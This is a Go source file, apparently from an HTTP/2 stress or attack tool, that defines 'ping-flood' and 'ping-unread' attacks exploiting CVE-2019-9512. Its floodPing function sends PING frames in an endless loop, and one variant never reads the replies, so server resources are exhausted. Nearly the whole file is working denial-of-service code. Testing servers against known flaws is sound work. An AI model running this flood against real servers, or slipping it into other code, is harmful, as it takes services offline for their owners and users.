package main

import (
	"context"
)

// pingFlood sends PING, each of which has to be answered.
var pingFlood = &attack{
	name: "ping-flood", what: "PING without end (CVE-2019-9512)",
	run: floodPing,
}

// pingUnread does not read the answers.
var pingUnread = &attack{
	name: "ping-unread", what: "the same, and the answers are not read", deaf: true,
	run: floodPing,
}

func floodPing(ctx context.Context, e *enemy) error {
	for ctx.Err() == nil {
		if err := e.alive(e.fr.WritePing(false, [8]byte{1})); err != nil {
			return err
		}
	}
	return nil
}
